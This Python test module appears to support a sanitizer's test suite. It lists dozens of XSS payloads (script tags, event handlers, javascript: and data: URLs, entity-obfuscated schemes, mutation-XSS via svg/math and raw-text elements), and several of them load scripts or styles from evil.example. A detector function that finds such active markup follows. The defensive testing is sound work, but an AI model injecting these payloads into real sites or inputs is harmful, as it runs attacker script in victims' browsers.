"""Markup that runs, loads or hides something, in the disguises that are known; and the eye that finds it in a tree.

The disguises follow the collections that sanitizers are tested with: entity-encoded and broken schemes, foreign
content, raw text that ends elsewhere when it is read again, attributes that only some elements obey.
"""

import re
from collections import Counter
from collections.abc import Iterator
from functools import lru_cache
from typing import Any

from html5lib._tokenizer import HTMLTokenizer  # the only way to see tags that a tree has no place for
from html5lib.constants import tokenTypes

from tests.fakes.markup import parse

_RUN = "alert(1)"

IN_TEXT = (
    f"<script>{_RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<script/x>{_RUN}</script >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>{_RUN}",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x\nonerror\n=\n'{_RUN}'>",
    f"<img/src=x/onerror={_RUN}>",
    f'<img src="x` `<script>{_RUN}</script>"` `>',
    f"<IMG SRC=x ONERROR={_RUN} />",
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
    f'<svg><animate attributeName="href" values="javascript:{_RUN}"/></svg>',
    f'<svg><set attributeName="onmouseover" to="{_RUN}"/></svg>',
    '<svg><use href="data:image/svg+xml,%3Csvg%20id=x%20onload=alert(1)%3E#x"/></svg>',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<math><maction actiontype="statusline#http://x" xlink:href="javascript:{_RUN}">x</maction></math>',
    f'<math href="javascript:{_RUN}">x</math>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"<template><script>{_RUN}</script></template>",
    f'<title><img title="</title><img src=x onerror={_RUN}>"></title>',
    f'<textarea><img title="</textarea><img src=x onerror={_RUN}>"></textarea>',
    f'<xmp><p title="</xmp><img src=x onerror={_RUN}>"></xmp>',
    f'<noembed><p title="</noembed><img src=x onerror={_RUN}>"></noembed>',
    f'<noframes><p title="</noframes><img src=x onerror={_RUN}>"></noframes>',
    f'<iframe><p title="</iframe><img src=x onerror={_RUN}>"></iframe>',
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!--- --!><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml ?><img src=x onerror={_RUN}>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<iframe srcdoc="&lt;img src=x onerror={_RUN}&gt;"></iframe>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml,%3Csvg%20onload=alert(1)%3E">',
    f'<a href="javascript:{_RUN}">x</a>',
    f'<a href="JaVaScRiPt:{_RUN}">x</a>',
    f'<a href=" \x01\x0ejavascript:{_RUN}">x</a>',
    f'<a href="java\tscr\nipt:{_RUN}">x</a>',
    f'<a href="java&#9;script&colon;{_RUN}">x</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{_RUN}">x</a>',
    f'<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{_RUN}">x</a>',
    f'<a href="java&NewLine;script&Tab;:{_RUN}">x</a>',
    f'<a href="vbscript:{_RUN}">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:application/xhtml+xml,x">x</a>',
    f'<form action="javascript:{_RUN}"><button formaction="javascript:{_RUN}">x</button></form>',
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<video src=x onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f'<p style="x" onclick={_RUN}>x</p>',
    f"<p onclick\x0c={_RUN}>x</p>",
    f"<p/onclick={_RUN}/>x</p>",
    f'<p "onclick={_RUN}">x</p>',
    f"<p x='' 'onclick={_RUN}>x</p>",
    f"<x-y onpointerenter={_RUN}>x</x-y>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    f"<body onload={_RUN}>",
    f"<html onmouseover={_RUN}>",
    f'<frameset onload={_RUN}><frame src="javascript:{_RUN}"></frameset>',
    f'<table background="javascript:{_RUN}"><tr><td background="javascript:{_RUN}">x</td></tr></table>',
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<b <script>{_RUN}</script>0",
    f'<a href="https://x"onclick="{_RUN}">x</a>',
    f"<<img src=x onerror={_RUN}>",
    f"<img src=x onerror={_RUN}//",
    f"</p onclick={_RUN}><p>",
    f'<p data-id="new-element" onclick={_RUN}>x</p>',
)
"""Each stands where text stands, or between elements."""

IN_A_TAG = (
    f' onclick="{_RUN}"',
    f" onmouseover={_RUN}",
    f"/onfocus={_RUN}/autofocus",
    f" ONCLICK = '{_RUN}'",
    f' href="javascript:{_RUN}"',
    f' src="&#x6a;avascript:{_RUN}"',
    f' title="</p><script>{_RUN}</script>"',
    f" title='\"><img src=x onerror={_RUN}>'",
    f' data-x="--><script>{_RUN}</script>"',
    f' xlink:href="javascript:{_RUN}"',
    f' srcdoc="<script>{_RUN}</script>"',
    f' style="background:url(javascript:{_RUN})"',
    f' formaction="java\nscript:{_RUN}"',
    f' "onclick={_RUN} x="',
)
"""Each stands in a start tag, after the name or another attribute."""

_TAGS = frozenset(("script", "style", "base", "link", "meta", "frame", "frameset", "applet"))
_LOADING = frozenset(("a", "area", "embed", "form", "frame", "iframe", "object", "use"))
"""A drawing runs its scripts where one of these opens it; as a picture it does not."""
_ANIMATIONS = frozenset(("animate", "set", "animatemotion", "animatetransform", "animatecolor"))
_ANIMATED = frozenset(("values", "to", "from", "by"))
"""Addresses on animations only."""
_WORDS = re.compile(r"alt|title|class|id|lang|dir|style|data-.*")
"""Attributes whose value is never an address."""
_NOT_SEEN = re.compile(r"[\t\n\r]|^[\x00-\x20]+")
"""What browsers drop from an address before they look at its scheme."""


def active(html: str) -> Counter[str]:
    """What would run or load something, however often the HTML is written out and read again."""
    return Counter(_all_active(html))


@lru_cache(maxsize=64)
def _all_active(html: str) -> Counter[str]:
    found = Counter(one for tag, attributes in _start_tags(html) for one in _active(tag, attributes))
    for scripting in (False, True):
        once = parse(html, scripting)
        for root in (once, parse(once.inner(), scripting), parse(once.inner(), not scripting)):
            found |= Counter(one for node in root.elements() for one in _active(node.tag, node.attributes))
    return found


def _start_tags(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Every start tag as if no element made raw text of its contents, and no parser left it out."""
    for token in HTMLTokenizer(html):
        if token["type"] in (tokenTypes["StartTag"], tokenTypes["EmptyTag"]):
            attributes: Any = token["data"]
            yield str(token["name"]), dict(attributes)


def _active(tag: str, attributes: dict[str, str]) -> Iterator[str]:
    tag = tag.rpartition("}")[2].lower()
    if tag in _TAGS:
        yield f"<{tag}>"
    for name, value in attributes.items():
        local = name.rpartition("}")[2].lower().removeprefix("xlink:")
        sets_handler = local == "attributename" and value.strip().lower().startswith("on")
        if local.startswith("on") or local in ("srcdoc", "http-equiv") or sets_handler or _runs(tag, local, value):
            yield f"<{tag} {local}={value!r}>"


def _runs(tag: str, name: str, value: str) -> bool:
    if _WORDS.fullmatch(name) or (name in _ANIMATED and tag not in _ANIMATIONS):
        return False
    address = _NOT_SEEN.sub("", _NOT_SEEN.sub("", value)).lower()
    if address.startswith(("javascript:", "vbscript:", "data:text/html", "data:application/xhtml", "data:text/xml")):
        return True
    return address.startswith("data:image/svg") and tag in _LOADING
